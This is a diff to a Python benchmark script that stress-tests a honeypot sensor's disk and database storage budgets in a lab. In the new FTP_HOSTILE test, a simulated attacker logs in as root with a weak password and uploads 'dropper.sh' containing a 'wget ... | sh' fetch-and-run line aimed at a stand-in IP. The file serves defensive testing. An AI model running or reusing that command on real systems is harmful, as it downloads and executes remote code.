@@ -15,9 +15,11 @@ stay under and whether it passed.
 - ftp_one_source: 50 MiB of FTP uploads (five different 10 MiB files) from one client -> bytes
   stored;
 - ftp_same_file_twice: one 1 MiB file uploaded twice -> files and bytes stored;
-- database_budget (when the code has a [storage] budget): a database budget already reached ->
-  how many events still carry payloads, whether the one storage alert was recorded, the status
-  counters.
+- database_budget_full / database_budget_over (when the code has a [storage] budget): a database
+  at its budget (then past it by more than a tenth) while datagrams, an FTP session with a hostile
+  command line and an upload arrive -> rows still carrying payloads, noise rows, uploads kept,
+  whether logins are still stored (at the budget) or nothing but the sensor's news (past it),
+  and the storage alerts recorded (one).
 
 Run as root from the repository: `python bench/abuse_disk.py` (`--quick` sends a tenth).
 """
@@ -108,9 +110,19 @@ print(sent)
 """
 
 
-def emit(name: str, value: float, unit: str, limit: float | None = None, **extra: Any) -> None:
-    passed = None if limit is None else value <= limit
+def emit(
+    name: str,
+    value: float,
+    unit: str,
+    limit: float | None = None,
+    at_least: float | None = None,
+    **extra: Any,
+) -> None:
+    """One check's line: its figure, the limit it must stay under (or the least it must reach)."""
+    passed = (limit is None or value <= limit) and (at_least is None or value >= at_least)
     line = {"name": name, "value": value, "unit": unit, "limit": limit, "pass": passed, **extra}
+    if at_least is not None:
+        line["at_least"] = at_least
     print(json.dumps(line), flush=True)
 
 
@@ -145,11 +157,23 @@ class Sensor:
         self.log = workdir / "honeyd.log"
         self.output = workdir / "sensor.out"
         self.status = workdir / "status" / "status.json"
-        self.settings = None
+        self.settings: Path | None = None
         if settings is not None:
-            self.settings = workdir / "dynapot.toml"
-            self.settings.write_text(settings)
+            self.use_settings(settings)
         self.process: subprocess.Popen[str] | None = None
+
+    def use_settings(self, text: str) -> None:
+        self.settings = self.workdir / "dynapot.toml"
+        self.settings.write_text(text)
+
+    def db_used(self) -> int:
+        """Bytes the database holds, as the sensor measures it (pages in use)."""
+        with contextlib.closing(sqlite3.connect(self.db)) as conn:
+            pages, free, size = (
+                conn.execute(f"PRAGMA {p}").fetchone()[0]
+                for p in ("page_count", "freelist_count", "page_size")
+            )
+            return (pages - free) * size
 
     def db_bytes(self) -> int:
         return sum(p.stat().st_size for p in self.workdir.glob("sensor.db*"))
@@ -189,11 +213,17 @@ class Sensor:
             else []
         )
 
-    def health(self) -> dict[str, Any]:
-        try:
-            return json.loads(self.status.read_text())
-        except (OSError, ValueError):
-            return {}
+    def health(self, after: float = 0.0) -> dict[str, Any]:
+        """The sensor's status, waiting (a status period at most) for one written after `after`."""
+        deadline = time.time() + 8
+        while True:
+            try:
+                status = json.loads(self.status.read_text())
+            except (OSError, ValueError):
+                status = {}
+            if status.get("time", 0) > after or time.time() > deadline:
+                return status
+            time.sleep(0.2)
 
 
 @contextlib.contextmanager
@@ -260,8 +290,7 @@ def check_ftp(lab: Any, workdir: Path, files: list[Path], name: str, limit: floa
         started = time.monotonic()
         sent = int(attacker(lab, python("-c", FTP_UPLOADER, VIRTUAL, *map(str, files))).strip())
         seconds = time.monotonic() - started
-        time.sleep(1)
-        health = s.health()
+        health = s.health(after=time.time())
     kept = s.uploads()
     stored = sum(p.stat().st_size for p in kept)
     distinct = len({hashlib.sha256(p.read_bytes()).hexdigest() for p in files})
@@ -272,20 +301,47 @@ def check_ftp(lab: Any, workdir: Path, files: list[Path], name: str, limit: floa
          storage=health.get("storage"))  # fmt: skip
 
 
-def check_budget(lab: Any, workdir: Path) -> None:
-    """A database budget smaller than the new database itself: the sensor starts already over it."""
-    settings = "[storage]\ndatabase_budget = 1\n"
-    with sensor(lab, workdir, settings) as s:
+FTP_HOSTILE = r"""
+import ftplib, io, sys
+ftp = ftplib.FTP(sys.argv[1], timeout=30)
+ftp.login("root", "123456")
+try:
+    ftp.sendcmd("SITE \x01\x1b[31mhostile")
+except ftplib.all_errors:
+    pass
+ftp.storbinary("STOR dropper.sh", io.BytesIO(b"#!/bin/sh\nwget http://198.51.100.7/x | sh\n" * 50))
+ftp.quit()
+"""
+
+
+def check_budget(lab: Any, workdir: Path, level: str) -> None:
+    """The database at its budget (`full`: the budget is what it holds when the sensor starts) or
+    far past it (`over`: a budget of one byte), then noise, payloads and an upload."""
+    s = Sensor(lab, workdir)
+    budget = s.db_used() if level == "full" else 1
+    s.use_settings(f"[storage]\ndatabase_budget = {budget}\n")
+    try:
+        s.start()
+        s.health(after=time.time())  # the first measurement is done
         attacker(lab, python("-c", UDP_SENDER, VIRTUAL, "9999", "1", "200", "2000"))
         attacker(lab, python("-c", UDP_SENDER, VIRTUAL, str(CLOSED_UDP), "50", "500", "2000"))
-        time.sleep(7)  # one status period
-        health = s.health()
-    payloads = s.rows("data LIKE '%excerpt%'")
-    alerts = s.rows("kind = 'storage-full'")
-    emit("database_budget_payloads_stored", payloads, "rows", 0, storage_alerts=alerts,
-         noise_rows=s.rows("kind IN ('probe', 'datagram')"),
+        attacker(lab, python("-c", FTP_HOSTILE, VIRTUAL))
+        health = s.health(after=time.time())
+    finally:
+        s.stop()
+    payloads = s.rows("data LIKE '%excerpt%' OR data LIKE '%\"line\"%'")
+    news = "('sensor-start', 'sensor-reload', 'events-lost', 'storage-full')"
+    emit(f"database_budget_{level}_payloads_stored", payloads, "rows", 0,
+         noise_rows=s.rows("kind IN ('probe', 'datagram', 'echo', 'icmp')"),
+         login_rows=s.rows("kind = 'login'"), upload_rows=s.rows("kind = 'upload'"),
+         other_rows=s.rows(f"kind NOT IN {news}"), files_kept=len(s.uploads()),
          storage=health.get("storage"))  # fmt: skip
-    emit("database_budget_alerts", alerts, "rows", 1, storage=health.get("storage"))
+    emit(f"database_budget_{level}_alerts", s.rows("kind = 'storage-full'"), "rows", 1)
+    if level == "over":
+        emit("database_budget_over_rows_but_news", s.rows(f"kind NOT IN {news}"), "rows", 0)
+    else:
+        emit("database_budget_full_logins_kept", s.rows("kind = 'login'"), "rows", at_least=1)
+        emit("database_budget_full_files_kept", len(s.uploads()), "files", 0)
 
 
 def main() -> None:
@@ -312,7 +368,8 @@ def main() -> None:
         same = make_files(payloads / "same", 1, MIB) * 2
         check_ftp(lab, root / "ftp2", same, "ftp_same_file_twice", 1, MIB)
         if has_storage_settings():
-            check_budget(lab, root / "budget")
+            check_budget(lab, root / "full", "full")
+            check_budget(lab, root / "over", "over")
 
 
 if __name__ == "__main__":
